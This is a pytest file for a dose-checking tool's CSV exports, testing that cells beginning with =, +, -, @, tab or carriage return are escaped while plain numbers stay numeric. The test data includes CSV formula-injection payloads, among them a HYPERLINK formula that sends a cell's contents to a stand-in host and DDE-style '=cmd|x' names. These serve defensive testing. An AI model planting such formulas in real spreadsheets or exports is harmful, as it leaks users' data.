"""CSV outputs neutralise cells a spreadsheet would run as formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from dosecheck.checking.check import check_plan
from dosecheck.checking.loader import load_constraint_set_text
from dosecheck.output.batch_formats import entries_csv
from dosecheck.output.check_formats import check_csv
from dosecheck.output.csv_safe import safe_cell, safe_row
from tests.helpers.plans import LONG_BOWEL_FAIL, LONG_PTV_PASS, memory_plan

EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-PTV", "'-PTV"),
        ("-0.5", "-0.5"),  # text that is a plain number stays a number
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("PTV=x", "PTV=x"),
        ("", ""),
        (-0.5, -0.5),
        (3, 3),
        (None, ""),
    ],
)
def test_safe_cell_rule(cell, written) -> None:
    assert safe_cell(cell) == written


def test_safe_row() -> None:
    assert safe_row(["=a", -1.25, None, "b"]) == ["'=a", -1.25, "", "b"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_check_csv_neutralises_roi_and_note_but_keeps_negative_margin() -> None:
    cset = load_constraint_set_text(
        "name: t\nstructures:\n  - name: Bowel\n    aliases: ['=cmd|x']\n    constraints:\n"
        "      - {metric: 'V45Gy[cc]', op: '<', limit: 300, note: n}\n"
    )
    plan = memory_plan(LONG_BOWEL_FAIL, LONG_PTV_PASS, bowel_name="=cmd|x")
    rows = _rows(check_csv(check_plan(plan, cset)))
    assert rows[0]["roi"] == "'=cmd|x"
    assert rows[0]["message"].startswith("V45Gy = ")
    margin = float(rows[0]["margin"])  # a number, not neutralised
    assert margin == pytest.approx(-40.0, abs=0.25)  # V45 = 340 cc, limit 300
    assert rows[0]["status"] == "fail"


def test_dvh_csv_neutralises_roi_names() -> None:
    from dosecheck.core.structures import compute_dvhs
    from dosecheck.output.dvh_formats import dvh_csv

    plan = memory_plan(LONG_BOWEL_FAIL, LONG_PTV_PASS, bowel_name=EVIL, extra=())
    rows = _rows(dvh_csv(compute_dvhs(plan)))
    assert rows[0]["name"] == "'" + EVIL
    assert float(rows[0]["volume_cc"]) == pytest.approx(680.0, abs=0.5)


def test_results_csv_neutralises_text_cells() -> None:
    entry = {
        "plan": {"path": "-evil", "patient_id": "+1+1", "plan_label": "@x"},
        "status": "ok",
        "error": "=err",
        "constraint_set": {"name": "=set"},
        "evaluated_at": "2024-01-01T00:00:00",
        "dose_scale": None,
        "beam_dose_check": None,
        "results": [{"structure": "=S", "roi": "-R", "margin": -2.5, "value": 1.0}],
    }
    rows = _rows(entries_csv([entry]))
    r = rows[0]
    assert (r["path"], r["patient_id"], r["plan_label"], r["error"]) == (
        "'-evil",
        "'+1+1",
        "'@x",
        "'=err",
    )
    assert (r["structure"], r["roi"], r["margin"]) == ("'=S", "'-R", "-2.5")
